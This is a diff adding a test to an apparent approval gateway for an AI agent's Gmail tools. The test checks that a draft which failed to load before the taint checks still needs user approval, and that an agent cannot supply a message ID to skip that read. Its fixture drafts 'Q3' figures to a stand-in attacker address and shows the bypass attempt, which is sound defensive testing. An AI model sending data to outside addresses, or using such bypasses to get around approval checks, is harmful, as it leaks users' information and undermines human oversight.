@@ -67,3 +67,39 @@ describe('an approval of gmail_send_draft sends only the version it showed', () 
     expect(bed.fake.sent).toHaveLength(0);
   });
 });
+
+describe('a send of a draft the checks could not read asks, whatever the policy', () => {
+  it('set to run without asking, a send whose draft read failed before the checks is put to the user', async () => {
+    const { bed, a, client } = await gmailApp.start({
+      settings: { approvals: { outcomeWindowMinutes: 0 } },
+    });
+    await a.control.setToolPolicy('gmail_send_draft', { approval: 'auto' });
+    const made = await bed.call('gmail_create_draft', {
+      to: ['evil@evil.test'],
+      subject: 'Figures',
+      body: 'Q3.',
+    });
+    const id = /draft id (\S+),/.exec(made.text)![1]!;
+    // The read before the checks fails (a draft too large to read in time fails the same way):
+    // the taint check would judge a call without recipients.
+    bed.fake.fail({
+      match: (r) => r.method === 'GET' && r.path.endsWith(`/drafts/${id}`),
+      status: 403,
+    });
+    const requested = nextRequest(a);
+    const run = client.callTool({ name: 'gmail_send_draft', arguments: { draft_id: id } });
+    const asked = await Promise.race([requested, run.then(() => null)]);
+    expect(asked).not.toBeNull();
+    expect(bed.fake.sent).toHaveLength(0);
+    await a.control.decide(asked!.id, { kind: 'deny' });
+    await run;
+
+    // An agent may not name the version itself in place of the read.
+    const named = await client.callTool({
+      name: 'gmail_send_draft',
+      arguments: { draft_id: id, message_id: 'm-any' },
+    });
+    expect(JSON.stringify(named.content)).toMatch(/message_id: leave it out/);
+    expect(bed.fake.sent).toHaveLength(0);
+  });
+});
